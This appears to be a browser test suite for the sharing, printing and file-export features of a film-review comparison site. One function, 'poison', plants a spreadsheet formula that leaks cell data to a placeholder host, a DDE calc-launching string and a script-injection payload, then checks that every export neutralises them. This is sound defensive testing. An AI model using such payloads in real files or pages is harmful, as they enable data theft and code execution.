// A comparison taken along: as a link, shared, in files and on paper.
import assert from 'node:assert/strict';
import { nameOf, rowClass } from './data.mjs';
import { DIGESTS, FILM, FILTERS, chip, claimName, claimsOn, columns, compare, contested, grid, head, inSentence, namesOf, rows, some } from './comparison.mjs';
import { BASE, FILM_FILE, address, alterJson, becomes, each, eventually, open, settled, visit } from './support.mjs';
import { claimLines, linkedData, markdown, readCsv, saved, unescaped } from './taken.mjs';

const CLIPBOARD = { permissions: ['clipboard-read', 'clipboard-write'] };
const FOUR = some('matinee', 'd', 'the-sound-booth', 'aisle-seat');
const copied = (page) => page.evaluate(() => navigator.clipboard.readText());
const panel = (page) => page.getByRole('button', { name: 'Take it with you' });
const way = (page, name) => page.getByRole('button', { name, exact: true });
/** What the panel says last. */
const told = (page) => page.getByRole('status').filter({ visible: true });
const on = (page, review, aspect) => page.getByRole('group', { name: `${nameOf(review)} on ${inSentence(aspect)}`, exact: true });
/** What is seen of the choices. */
const state = async (page) => ({
  columns: await columns(page),
  rows: (await rows(page)).map(({ name }) => name),
  on: await page.getByRole('main').locator('[aria-current=true]').allInnerTexts(),
});
/** The same address in another browser, of somebody else. */
async function elsewhere(page, url, look) {
  const context = await page.context().browser().newContext({ viewport: { width: 1280, height: 800 }, reducedMotion: 'reduce' });
  const other = await context.newPage();
  await other.goto(url);
  await settled(other);
  try {
    return await look(other);
  } finally {
    await context.close();
  }
}

visit('the link of a comparison is its address, and shows the same elsewhere', CLIPBOARD, async (page) => {
  const more = `&pin=${FOUR[2].id}&rows=differ&order=list&mode=written&opinions=only`;
  await open(page, compare(FOUR, more));
  const here = await state(page);
  await panel(page).click();
  await way(page, 'Copy the link').click();
  await told(page).filter({ hasText: /^Copied\.$/ }).waitFor();
  assert.equal(await copied(page), BASE + compare(FOUR, more));
  assert.deepEqual(await elsewhere(page, await copied(page), state), here);
  await page.keyboard.press('Escape');
  await chip(page, /^All/).click();
  await panel(page).click();
  await way(page, 'Copy the link').click();
  await becomes(page, () => copied(page), BASE + compare(FOUR, more.replace('&rows=differ', '')), 'it is of what is chosen now');
});

visit('the link of a passage leads to that passage', CLIPBOARD, async (page) => {
  await open(page, compare(FOUR));
  const review = FOUR[2];
  const aspect = contested(FOUR).filter((it) => claimsOn(review, it).length).at(-1);
  const [claim] = claimsOn(review, aspect);
  const copy = on(page, review, aspect).getByRole('button', { name: 'Copy its link' }).first();
  await copy.click();
  await on(page, review, aspect).getByRole('button', { name: 'Copied' }).waitFor();
  assert.equal(await copied(page), BASE + compare(FOUR, `&passage=${claimName(review, claim)}`));
  assert.equal(address(page), compare(FOUR), 'nothing else changes');
  await elsewhere(page, await copied(page), async (other) => {
    const words = on(other, review, aspect).locator('mark').filter({ hasText: claim.quote }).first();
    await eventually(other, async () => {
      const { y } = await words.boundingBox();
      assert.ok(y >= 0 && y < 780, 'it is on the screen');
    });
    assert.deepEqual(await columns(other), namesOf(FOUR));
  });
});

visit('where the browser keeps its clipboard to itself, that is said, and what to do', async (page) => {
  await page.addInitScript(() => { navigator.clipboard.writeText = () => Promise.reject(new DOMException('No', 'NotAllowedError')); });
  await open(page, compare(FOUR));
  await panel(page).click();
  for (const name of ['Copy the link', 'Copy as Markdown']) {
    await way(page, name).click();
    await told(page).filter({ hasText: 'Your browser did not allow it. The address can be copied from its address bar.' }).waitFor();
  }
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Copy its link' }).first().click();
  await page.getByRole('button', { name: 'Your browser did not allow it' }).waitFor();
});

visit('the share sheet of the system is offered where there is one, and only there', async (page) => {
  await page.addInitScript(() => { delete Navigator.prototype.share; });
  await open(page, compare(FOUR));
  await panel(page).click();
  await way(page, 'Copy the link').waitFor();
  assert.equal(await way(page, 'Share…').count(), 0);
  await page.addInitScript(() => { navigator.share = async (what) => { globalThis.shared = what; }; globalThis.print = () => { globalThis.printed = true; }; });
  await open(page, compare(FOUR, '&rows=differ'));
  await panel(page).click();
  await way(page, 'Share…').click();
  assert.deepEqual(await page.evaluate(() => globalThis.shared), { title: `${FILM.title}, reviews compared`, url: BASE + compare(FOUR, '&rows=differ') });
  await way(page, 'Print').click();
  assert.equal(await page.evaluate(() => globalThis.printed), true, 'printing opens the browser’s own dialog');
});

/** Has every file saved that the panel offers: by their endings, their texts. */
async function files(page) {
  if (!(await way(page, 'Copy the link').isVisible())) await panel(page).click();
  const found = {};
  for (const [ending, name] of [['md', 'Save as Markdown'], ['csv', 'Save as a table (CSV)'], ['jsonld', 'Save as linked data (JSON-LD)']]) {
    const file = await saved(page, () => way(page, name).click());
    assert.equal(file.name, `${FILM.slug}-reviews.${ending}`);
    await told(page).filter({ hasText: /^Saved\.$/ }).waitFor();
    found[ending] = file.text;
  }
  await page.keyboard.press('Escape');
  return found;
}
const sorted = (value) => JSON.parse(JSON.stringify(value, (_, it) => (it?.constructor === Object ? Object.fromEntries(Object.entries(it).toSorted()) : it)));
/** Checks the three files against what the sources come to. */
function check({ md, csv, jsonld }, film, reviews, { url, ...how } = {}) {
  assert.equal(unescaped(md), markdown(film, reviews, { url, ...how }));
  assert.deepEqual(readCsv(csv), claimLines(film, reviews, how));
  assert.deepEqual(sorted(JSON.parse(jsonld)), sorted(linkedData(film, reviews, { page: url ?? '', ...how })));
}

visit('the files hold what the sources come to: quotes as quotes, digests cited, grades as written', CLIPBOARD, async (page) => {
  const SETS = { 'the digests': DIGESTS, 'grades of all kinds': some('matinee', 'the-sound-booth', 'standing-ticket', 'aisle-seat', 'a'), 'two': some('d', 'slow-cinema-club') };
  await each(Object.entries(SETS), async (reviews) => {
    await open(page, compare(reviews));
    const found = await files(page);
    check(found, FILM, reviews, { url: BASE + compare(reviews) });
    const [, ...nodes] = JSON.parse(found.jsonld)['@graph'];
    for (const [at, { kind, grade, id }] of reviews.entries()) {
      assert.equal(nodes[at]['@type'], kind === 'digest' ? 'CreativeWork' : 'Review', id);
      assert.equal(nodes[at].reviewRating?.name ?? null, /\d|^[A-F]/.test(grade ?? '') ? grade : null, `${id}: no rating is made up`);
      if (kind === 'digest') for (const claimed of ['author', 'reviewBody', 'positiveNotes', 'negativeNotes', 'reviewAspect']) assert.ok(!(claimed in nodes[at]), `${id}: a digest has no ${claimed} of the critic’s`);
      else for (const name of ['reviewAspect', 'positiveNotes', 'negativeNotes']) assert.ok(nodes[at][name], `${id}: ${name}`);
    }
    await panel(page).click();
    await way(page, 'Copy as Markdown').click();
    await told(page).filter({ hasText: /^Copied\.$/ }).waitFor();
    assert.equal(await copied(page), found.md, 'what is copied is what is saved');
  });
});

visit('the files are of what is shown: rows, their order and the level of spoilers', async (page) => {
  const reviews = some('matinee', 'slow-cinema-club', 'c');
  await each([['differ', '&rows=differ', { aspects: contested(reviews).filter((aspect) => FILTERS.Differ.includes(rowClass(reviews, aspect))) }], ['no spoilers', '&spoilers=0', { level: 0 }], ['everything', '&spoilers=3', { level: 3 }]], async (more, how) => {
    await open(page, compare(reviews, more));
    check(await files(page), FILM, reviews, { url: BASE + compare(reviews, more), ...how });
  });
});

visit('while names are hidden no file tells them, nor an outlet, a grade or an address that would', async (page) => {
  await open(page, compare(FOUR, '&blind=yes'));
  await head(page, 'A').waitFor();
  const letters = await columns(page);
  const hidden = await files(page);
  check(hidden, FILM, FOUR, { names: letters, blind: true });
  for (const [ending, text] of Object.entries(hidden)) {
    for (const secret of FOUR.flatMap((review) => [nameOf(review), review.id, review.headline, review.grade, review.kind === 'house' ? null : review.outlet]).filter((it) => it?.length > 1)) assert.ok(!text.includes(secret), `${secret} is in ${ending}`);
  }
  await page.getByRole('button', { name: `Reveal who ${letters[1]} is` }).click();
  await head(page, nameOf(FOUR[1])).waitFor();
  check(await files(page), FILM, FOUR, { names: letters.with(1, nameOf(FOUR[1])), blind: true });
  await page.getByRole('button', { name: 'Reveal all' }).click();
  await becomes(page, () => columns(page), namesOf(FOUR));
  check(await files(page), FILM, FOUR, { url: BASE + compare(FOUR, '&blind=yes') });
});

/** Makes of a film’s file one whose texts would do something in a spreadsheet, in Markdown or in a page. */
function poison(film) {
  const [one, other] = FOUR.map((review) => film.reviews.find((it) => it.id === review.id));
  film.title = '=*Sound* [of](https://evil.example) <b>Metal</b> # 1';
  film.cast[0].name = '@SUM(1+9)*cmd|’ /C calc’!A0';
  const quote = (review, at, words) => {
    const claim = review.claims[at];
    const block = review.body.find((it) => it.text.includes(claim.quote));
    block.text = block.text.replace(claim.quote, words);
    claim.quote = words;
  };
  for (const review of film.reviews) for (const claim of review.claims) if (claim.about && !film.directors.includes(claim.about)) claim.about = film.cast[0].name;
  quote(one, 0, '=HYPERLINK("https://evil.example?x="&A1,"see, here")');
  quote(one, 1, '+1 for the "drums", -1 for the end');
  quote(one, 2, '-2+3</script><script>alert(1)</script>');
  other.outlet = '-The Movie Guys, "Inc."';
  return film;
}
visit('texts that would be formulas or markup are kept from it in every file', async (page) => {
  await alterJson(page, FILM_FILE, poison);
  const film = poison(structuredClone(FILM));
  const reviews = FOUR.map((review) => film.reviews.find((it) => it.id === review.id));
  await open(page, compare(FOUR));
  const found = await files(page);
  check(found, film, reviews, { url: BASE + compare(FOUR) });
  for (const line of readCsv(found.csv)) for (const value of Object.values(line)) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
  assert.ok(readCsv(found.csv).some(({ quote }) => quote.startsWith("'=HYPERLINK(\"")));
  assert.equal(found.md.match(/(?<!\\)\[/g).length, 1, 'one link, which is its own');
  assert.doesNotMatch(found.md, /(?<!\\)</);
  assert.ok(!found.jsonld.includes('<'), 'it could stand in a page');
});

/** What of these elements is not on the sheet as a whole: not there, cut off by what it is in, or beyond the edge. */
const missing = (locator) => locator.evaluateAll((all) => {
  const cut = (element) => element && (getComputedStyle(element).overflowX !== 'visible' || cut(element.parentElement));
  const whole = (element) => element.checkVisibility() && element.getClientRects().length > 0 && !cut(element.parentElement) && element.getBoundingClientRect().right <= innerWidth;
  return all.filter((element) => !whole(element)).map((element) => element.textContent.slice(0, 60));
});
const CONTROLS = ['button', 'combobox', 'searchbox', 'checkbox', 'navigation', 'contentinfo'];

visit('on paper there are no controls, links are text, and classes and quotes are whole', async (page) => {
  await open(page, compare(FOUR));
  const screen = await rows(page);
  // As wide as a sheet is that lies on its side.
  await page.setViewportSize({ width: 940, height: 700 });
  await page.emulateMedia({ media: 'print' });
  for (const role of CONTROLS) assert.equal(await page.getByRole('main').getByRole(role).filter({ visible: true }).count(), 0, role);
  for (const role of CONTROLS) assert.equal(await page.getByRole(role).filter({ visible: true }).count(), 0, `${role} around the page`);
  assert.deepEqual(await rows(page), screen, 'the table says the same');
  await each(FOUR.map((review) => [nameOf(review), review]), async (review) => {
    assert.deepEqual(await missing(head(page, nameOf(review)).getByRole('link', { name: nameOf(review) })), []);
  });
  assert.deepEqual(await missing(grid(page).locator('[role=rowheader] > *')), [], 'names and classes');
  assert.deepEqual(await missing(grid(page).locator('[role=gridcell] a:not(details a)')), [], 'quotes');
  const broken = await grid(page).getByRole('rowheader').getByRole('link').evaluateAll((all) => all.filter((it) => {
    const range = document.createRange();
    range.selectNodeContents(it);
    return range.getClientRects().length > it.textContent.split(' ').length;
  }).map((it) => it.textContent));
  assert.deepEqual(broken, [], 'no name is broken within a word');
  const lines = await page.getByRole('main').locator('a, summary').filter({ visible: true }).evaluateAll((all) => all.map((it) => [it.textContent, getComputedStyle(it).textDecorationLine]));
  assert.ok(lines.length > 50);
  for (const [text, line] of lines) assert.equal(line, 'none', text);
});

visit('what was opened to be printed is printed: how near they stand, and the reviews as written, each whole', async (page) => {
  await open(page, compare(FOUR, '&mode=written'));
  await page.getByText('How near they stand to each other').click();
  const counts = page.getByText(/^Of \d+ aspects that two or more speak on/);
  await counts.waitFor();
  await page.emulateMedia({ media: 'print' });
  assert.equal(await counts.isVisible(), true);
  for (const review of FOUR) {
    const text = page.getByRole('group', { name: `${nameOf(review)} on the film`, exact: true });
    assert.deepEqual(await text.evaluate((it) => it.scrollHeight - it.clientHeight <= 1), true, `${nameOf(review)} is whole`);
    const sizes = new Set();
    for (const block of review.body.filter((it) => it.spoiler <= 2)) {
      const paragraph = text.getByText(block.text.split('\n')[0].slice(0, 40));
      assert.ok(await paragraph.isVisible(), block.text);
      sizes.add(await paragraph.evaluate((it) => getComputedStyle(it).fontSize));
    }
    assert.equal(sizes.size, 1, `${nameOf(review)} is of one size: ${[...sizes]}`);
  }
});

/** The sizes of a document’s sheets: how wide and how high. */
const sheets = (pdf) => [...pdf.toString('latin1').matchAll(/\/MediaBox\s*\[([\d. ]+)\]/g)].map(([, box]) => box.trim().split(/\s+/).map(Number).slice(2));
visit('two and three columns are printed on upright sheets, four on sheets on their side', async (page) => {
  await each([2, 3, 4].map((count) => [`${count} columns`, count]), async (count) => {
    await open(page, compare(FOUR.slice(0, count)));
    await grid(page).waitFor();
    const found = sheets(await page.pdf({ preferCSSPageSize: true, format: 'A4' }));
    assert.ok(found.length > 0 && found.length < 8, `${found.length} sheets`);
    for (const [width, height] of found) assert.equal(width > height, count === 4, `${width} to ${height}`);
  });
});
